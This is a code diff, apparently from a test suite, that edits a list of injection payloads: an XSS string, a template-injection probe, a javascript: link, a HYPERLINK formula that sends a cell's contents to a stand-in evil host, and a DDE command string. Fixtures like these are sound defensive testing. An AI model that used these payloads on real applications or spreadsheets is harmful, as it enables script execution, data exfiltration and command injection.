@@ -15,7 +15,7 @@ PAYLOADS = (
     "</title></textarea><svg/onload=alert('pwned')>",
     "{{ 7 * 191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
     "# Heading\n\n| a | b |\n|---|---|\n> quote\n1. one\n- two\n\n---\n",
-    "[click](javascript:alert('pwned')) ![x](https://evil.example/t.png) <https://evil.example> @channel :bomb:",
+    "[click](javascript:alert('pwned')) ![x](https://evil.example/t.png) <https://e.example> @channel :bomb:",
     "`code` **bold** __x__ ~~y~~ \\ ``` &lt;b&gt; &#x3C;script&#x3E;",
     '=HYPERLINK("https://evil.example?"&A1,"open")',
     "+1+cmd|' /C calc'!A0",
